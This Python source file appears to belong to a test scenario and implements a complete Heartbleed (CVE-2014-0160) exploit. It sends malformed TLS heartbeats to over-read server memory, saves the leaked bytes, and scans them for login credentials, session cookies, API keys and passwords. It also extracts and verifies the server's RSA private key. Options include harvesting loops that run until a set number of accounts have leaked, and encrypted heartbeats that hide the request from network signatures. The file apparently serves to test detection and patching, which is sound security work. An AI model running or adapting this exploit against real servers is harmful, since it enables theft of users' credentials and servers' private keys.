#!/usr/bin/env python3
"""heartbleed-attack.py - the Heartbleed (CVE-2014-0160) exploit of the `heartbleed` scenario.

Our own implementation of what the public proofs of concept of April 2014
(Jared Stafford's ssltest.py, Metasploit's openssl_heartbleed, heartleech)
do on the wire:

1. connect, send a ClientHello (TLS 1.0, 1.1 or 1.2; the cipher-suite list
   of ssltest.py, of Metasploit's module or of an OpenSSL 1.0.1 s_client)
   that offers the heartbeat extension;
2. read the server's flight up to ServerHelloDone (noting whether the
   ServerHello announces heartbeats);
3. optionally (HB_HANDSHAKE=complete) finish the handshake with an RSA key
   exchange first, so that the heartbeats travel encrypted - the variant
   that hides payload_length from network signatures;
4. optionally (HB_PROBE=yes) send one well-formed heartbeat, as scanners do
   to learn that heartbeats are supported;
5. send malformed HeartbeatRequests: payload_length claims HB_LENGTH bytes
   (or a random length from HB_LENGTH to 0xffff per heartbeat), the payload
   really sent is 0-3 bytes and there is no padding; read every heartbeat
   record that comes back (a 64 KiB response is split into 2^14-byte
   records);
6. repeat HB_COUNT times, on one connection or a new one per heartbeat;
   with HB_HARVEST=N keep going (until HB_MAX_SECONDS) until N distinct
   accounts have leaked, as harvesting loops did;
7. write the leaked bytes to HB_OUT/leak-N.bin, print a hex dump of the
   start of each and every secret found in them: HTTP credentials, session
   cookies, API keys, configuration passwords and PEM private keys (a
   recovered key is checked against the server's certificate).

Exit status: with HB_EXPECT=leak, 0 when secrets leaked; with
HB_EXPECT=none (a patched server), 0 when every malformed heartbeat went
unanswered (and the probe, if any, was echoed correctly); 1 otherwise.
"""

import os
import random
import re
import socket
import sys
import time

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import padding

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tls12 as T  # noqa: E402

# Cipher-suite lists of the well-known clients.
HELLOS = {
    # ssltest.py (Jared Stafford, 2014)
    "ssltest": [
        0xC014, 0xC00A, 0xC022, 0xC021, 0x0039, 0x0038, 0x0088, 0x0087, 0xC00F, 0xC005,
        0x0035, 0x0084, 0xC012, 0xC008, 0xC01C, 0xC01B, 0x0016, 0x0013, 0xC00D, 0xC003,
        0x000A, 0xC013, 0xC009, 0xC01F, 0xC01E, 0x0033, 0x0032, 0x009A, 0x0099, 0x0045,
        0x0044, 0xC00E, 0xC004, 0x002F, 0x0096, 0x0041, 0xC011, 0xC007, 0xC00C, 0xC002,
        0x0005, 0x0004, 0x0015, 0x0012, 0x0009, 0x0014, 0x0011, 0x0008, 0x0006, 0x0003,
        0x00FF,
    ],
    # Metasploit auxiliary/scanner/ssl/openssl_heartbleed
    "metasploit": [
        0xC014, 0xC00A, 0xC022, 0xC021, 0x0039, 0x0038, 0x0088, 0x0087, 0x0087, 0xC00F,
        0x0035, 0x0084, 0xC012, 0xC008, 0xC01C, 0xC01B, 0x0016, 0x0013, 0xC00D, 0xC003,
        0x000A, 0xC013, 0xC009, 0xC01F, 0xC01E, 0x0033, 0x0032, 0x009A, 0x0099, 0x0045,
        0x0044, 0xC00E, 0xC004, 0x002F, 0x0096, 0x0041, 0xC011, 0xC007, 0xC00C, 0xC002,
        0x0005, 0x0004, 0x0015, 0x0012, 0x0009, 0x0014, 0x0011, 0x0008, 0x0006, 0x0003,
        0x00FF,
    ],
    # openssl s_client of OpenSSL 1.0.1
    "s_client": [
        0xC030, 0xC02C, 0xC028, 0xC024, 0xC014, 0xC00A, 0x00A3, 0x009F, 0x006B, 0x006A,
        0x0039, 0x0038, 0x0088, 0x0087, 0xC032, 0xC02E, 0xC02A, 0xC026, 0xC00F, 0xC005,
        0x009D, 0x003D, 0x0035, 0x0084, 0xC02F, 0xC02B, 0xC027, 0xC023, 0xC013, 0xC009,
        0x00A2, 0x009E, 0x0067, 0x0040, 0x0033, 0x0032, 0x009A, 0x0099, 0x0045, 0x0044,
        0xC031, 0xC02D, 0xC029, 0xC025, 0xC00E, 0xC004, 0x009C, 0x003C, 0x002F, 0x0096,
        0x0041, 0xC011, 0xC007, 0xC00C, 0xC002, 0x0005, 0x0004, 0xC012, 0xC008, 0x0016,
        0x0013, 0xC00D, 0xC003, 0x000A, 0x0015, 0x0012, 0x0009, 0x0014, 0x0011, 0x0008,
        0x0006, 0x0003, 0x00FF,
    ],
}
# ec_point_formats, elliptic_curves and session ticket, as those hellos carry
EXTRA_EXTENSIONS = [
    (0x000B, bytes.fromhex("03000102")),
    (0x000A, bytes.fromhex("0032000e000d0019000b000c00180009000a00160017000800060007001400150004000500120013000100020003000f00100011")),
    (0x0023, b""),
]

PATTERNS = [
    ("credentials", re.compile(rb"user=([A-Za-z0-9._-]+)&password=([A-Za-z0-9]+)")),
    ("session cookie", re.compile(rb"session=([0-9a-f]{32})")),
    ("api key", re.compile(rb"X-Api-Key: ([A-Za-z0-9]+)")),
    ("config password", re.compile(rb"\npassword=([A-Za-z0-9]+)")),
]
PEM = re.compile(rb"-----BEGIN (?:RSA )?PRIVATE KEY-----[A-Za-z0-9+/=\s]+-----END (?:RSA )?PRIVATE KEY-----")


def say(msg):
    print("attacker: " + msg, flush=True)


def hexdump(data, limit):
    for off in range(0, min(len(data), limit), 16):
        chunk = data[off:off + 16]
        text = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        print("  %04x: %-47s  %s" % (off, " ".join("%02x" % b for b in chunk), text), flush=True)


class Attack:
    def __init__(self):
        e = os.environ
        self.host = e.get("HB_TARGET", "server")
        self.port = int(e.get("HB_PORT", "443"))
        self.version = T.VERSIONS[e.get("HB_VERSION", "1.1")]
        self.suites = HELLOS[e.get("HB_HELLO", "ssltest")]
        self.count = int(e.get("HB_COUNT", "1"))
        self.length = int(e.get("HB_LENGTH", "16384"))
        self.lengths = e.get("HB_LENGTHS", "fixed")
        self.payload_bytes = int(e.get("HB_PAYLOAD", "0"))
        self.connections = e.get("HB_CONNECTIONS", "one")
        self.pause = float(e.get("HB_PAUSE", "0.5"))
        self.delay = float(e.get("HB_DELAY", "0"))
        self.probe = e.get("HB_PROBE", "no") == "yes"
        self.complete = e.get("HB_HANDSHAKE", "cleartext") == "complete"
        self.expect = e.get("HB_EXPECT", "leak")
        self.harvest = int(e.get("HB_HARVEST", "0"))
        self.max_seconds = float(e.get("HB_MAX_SECONDS", "30"))
        self.timeout = float(e.get("HB_TIMEOUT", "3"))
        self.sni = e.get("HB_SNI", "")
        self.out = e.get("HB_OUT", "/tmp/leaks")
        self.rng = random.Random(int(e.get("HB_SEED", "0")))
        os.makedirs(self.out, exist_ok=True)
        self.conn = None
        self.cert_der = None
        self.leaks = 0
        self.overreads = 0
        self.probe_failures = 0
        self.found = {}  # kind -> set of values
        self.key_recovered = False

    # -- connection and handshake
    def connect(self):
        deadline = time.time() + 20
        while True:
            try:
                sock = socket.create_connection((self.host, self.port), timeout=5)
                break
            except OSError as err:
                if time.time() > deadline:
                    raise
                say("connect: %s, retrying" % err)
                time.sleep(0.5)
        sock.settimeout(self.timeout + 5)
        conn = T.Connection(sock, self.version if self.version < 0x0303 else 0x0301)
        hello, client_random = T.client_hello(self.version, self.suites, True, self.sni or None,
                                              extra_extensions=EXTRA_EXTENSIONS)
        conn.send(T.HANDSHAKE, hello)
        transcript = hello
        buf = b""
        server_hello = None
        done = False
        while not done:
            ctype, _, data, _ = conn.read_record()
            if ctype == T.ALERT:
                raise T.TLSError("server sent alert %s" % data.hex())
            if ctype != T.HANDSHAKE:
                raise T.TLSError("unexpected record type %d in the handshake" % ctype)
            buf += data
            msgs, buf = T.split_handshake(buf)
            for mtype, body, raw in msgs:
                transcript += raw
                if mtype == T.SERVER_HELLO:
                    server_hello = T.parse_server_hello(body)
                elif mtype == T.CERTIFICATE:
                    self.cert_der = T.parse_certificate(body)[0]
                elif mtype == T.SERVER_HELLO_DONE:
                    done = True
        conn.version = server_hello["version"]
        hb = T.EXT_HEARTBEAT in server_hello["extensions"]
        say("ServerHello %s, suite 0x%04x, heartbeat extension %s"
            % (T.VERSION_NAMES.get(server_hello["version"], hex(server_hello["version"])),
               server_hello["suite"], "announced" if hb else "NOT announced"))
        if self.complete:
            self.finish_handshake(conn, server_hello, client_random, transcript)
        self.conn = conn

    def finish_handshake(self, conn, sh, client_random, transcript):
        if sh["version"] != 0x0303:
            raise T.TLSError("a complete handshake needs TLS 1.2")
        cert = x509.load_der_x509_certificate(self.cert_der)
        pre_master = b"\x03\x03" + os.urandom(46)
        enc = cert.public_key().encrypt(pre_master, padding.PKCS1v15())
        cke = T.handshake(T.CLIENT_KEY_EXCHANGE, T.vec16(enc))
        transcript += cke
        keys = T.Keys(sh["suite"], pre_master, client_random, sh["random"])
        finished = T.handshake(T.FINISHED, keys.verify_data(b"client finished", transcript))
        conn.send(T.HANDSHAKE, cke)
        conn.send(T.CHANGE_CIPHER_SPEC, b"\x01")
        conn.write_cipher = keys.client
        conn.send(T.HANDSHAKE, finished)
        transcript += finished
        while True:
            ctype, _, data, _ = conn.read_record()
            if ctype == T.CHANGE_CIPHER_SPEC:
                conn.read_cipher = keys.server
            elif ctype == T.HANDSHAKE:
                msgs, _ = T.split_handshake(data)
                if msgs and msgs[0][0] == T.FINISHED:
                    if msgs[0][1] != keys.verify_data(b"server finished", transcript):
                        raise T.TLSError("server Finished does not verify")
                    break
            elif ctype == T.ALERT:
                raise T.TLSError("server sent alert %s" % data.hex())
        say("handshake complete (%s): the heartbeats travel encrypted" % keys.name)

    def close(self):
        if self.conn is not None:
            self.conn.close()
            self.conn = None

    # -- heartbeats
    def heartbeat(self, claimed, payload, pad):
        """Send one heartbeat; return the response's (payload_length, payload) or None."""
        msg = T.heartbeat_message(T.HB_REQUEST, claimed, payload, pad)
        self.conn.send(T.HEARTBEAT, msg)
        self.conn.sock.settimeout(self.timeout)
        data = b""
        want = None
        end = time.time() + self.timeout
        try:
            while want is None or len(data) < want:
                if time.time() > end:
                    break
                ctype, _, rec, _ = self.conn.read_record()
                if ctype == T.HEARTBEAT:
                    data += rec
                    if want is None and len(data) >= 3:
                        want = 3 + int.from_bytes(data[1:3], "big") + 16
                elif ctype == T.ALERT:
                    say("alert %s after the heartbeat" % rec.hex())
                    break
        except socket.timeout:
            pass
        if len(data) < 3:
            return None
        length = int.from_bytes(data[1:3], "big")
        return length, data[3:3 + length], len(data)

    def send_probe(self):
        payload = os.urandom(self.rng.randint(16, 48))
        r = self.heartbeat(len(payload), payload, os.urandom(16))
        if r is None or r[1] != payload:
            say("probe: well-formed heartbeat of %d bytes NOT echoed" % len(payload))
            self.probe_failures += 1
        else:
            say("probe: well-formed heartbeat of %d bytes echoed: heartbeats are supported" % len(payload))

    def bleed(self, n):
        claimed = self.length
        if self.lengths == "random":
            claimed = self.rng.randint(self.length, 0xFFFF)
        payload = bytes(self.rng.randrange(256) for _ in range(self.payload_bytes))
        record = 3 + len(payload)
        say("heartbeat %d: record of %d bytes claims payload_length %d (0x%04x)" % (n, record, claimed, claimed))
        r = self.heartbeat(claimed, payload, b"")
        if r is None:
            say("heartbeat %d: no response within %.1f s - not vulnerable (or patched)" % (n, self.timeout))
            return
        length, leaked, total = r
        say("heartbeat %d: response of %d bytes, payload_length %d: %d bytes of server memory"
            % (n, total, length, max(0, len(leaked) - len(payload))))
        if len(leaked) > len(payload):
            self.overreads += 1
        path = os.path.join(self.out, "leak-%d.bin" % n)
        with open(path, "wb") as f:
            f.write(leaked)
        hexdump(leaked, 256)
        self.scan(leaked, n)
        self.leaks += 1

    def scan(self, data, n):
        for kind, rx in PATTERNS:
            for m in rx.finditer(data):
                value = b"&".join(m.groups()).decode("ascii", "replace")
                seen = self.found.setdefault(kind, set())
                if value not in seen:
                    seen.add(value)
                    say("heartbeat %d: LEAKED %s: %s" % (n, kind, value))
        for m in PEM.finditer(data):
            pem = m.group(0)
            try:
                key = serialization.load_pem_private_key(pem, None)
                cert = x509.load_der_x509_certificate(self.cert_der)
                match = key.public_key().public_numbers() == cert.public_key().public_numbers()
            except Exception as err:  # a cut or damaged key
                say("heartbeat %d: LEAKED a PEM private key that does not load (%s)" % (n, type(err).__name__))
                continue
            if not self.key_recovered:
                say("heartbeat %d: LEAKED the server's private key (%d-bit RSA), %s the certificate"
                    % (n, key.key_size, "matches" if match else "does NOT match"))
            self.key_recovered = self.key_recovered or match
        # a partial key still shows
        if b"-----BEGIN" in data and not PEM.search(data):
            say("heartbeat %d: part of a PEM block leaked" % n)

    def accounts(self):
        return {v.split("&")[0] for v in self.found.get("credentials", set())}

    def run(self):
        if self.delay > 0:
            time.sleep(self.delay)
        start = time.time()
        say("target %s:%d, TLS %s ClientHello (%s), %d heartbeat(s) claiming %s bytes, payload %d byte(s), %s connection(s)%s"
            % (self.host, self.port, T.VERSION_NAMES[self.version], os.environ.get("HB_HELLO", "ssltest"),
               self.count, ("%d" % self.length) if self.lengths == "fixed" else "%d-65535" % self.length,
               self.payload_bytes, self.connections, ", encrypted" if self.complete else ""))
        n = 0
        while True:
            n += 1
            if self.conn is None:
                self.connect()
                if self.probe and (n == 1 or self.connections == "each"):
                    self.send_probe()
            try:
                self.bleed(n)
            except (T.TLSError, OSError) as err:
                say("heartbeat %d: %s" % (n, err))
                self.close()
            if self.connections == "each":
                self.close()
            more = n < self.count
            if self.harvest and len(self.accounts()) < self.harvest and time.time() - start < self.max_seconds:
                more = True
            if not more:
                break
            time.sleep(self.pause)
        self.close()
        return self.verdict(n)

    def verdict(self, n):
        secrets_found = sum(len(v) for v in self.found.values())
        say("done: %d heartbeat(s), %d answered, %d over-read(s), %d secret(s)%s, accounts: %s"
            % (n, self.leaks, self.overreads, secrets_found,
               ", private key recovered" if self.key_recovered else "",
               " ".join(sorted(self.accounts())) or "none"))
        if self.expect == "leak":
            if secrets_found and self.overreads:
                say("VULNERABLE: the server leaks its memory (CVE-2014-0160)")
                return 0
            say("FAILED: nothing leaked")
            return 1
        if self.overreads == 0 and self.probe_failures == 0:
            say("NOT VULNERABLE: malformed heartbeats are discarded, as expected")
            return 0
        say("FAILED: expected a patched server")
        return 1


if __name__ == "__main__":
    try:
        sys.exit(Attack().run())
    except (T.TLSError, OSError) as err:
        say("FAILED: %s" % err)
        sys.exit(1)
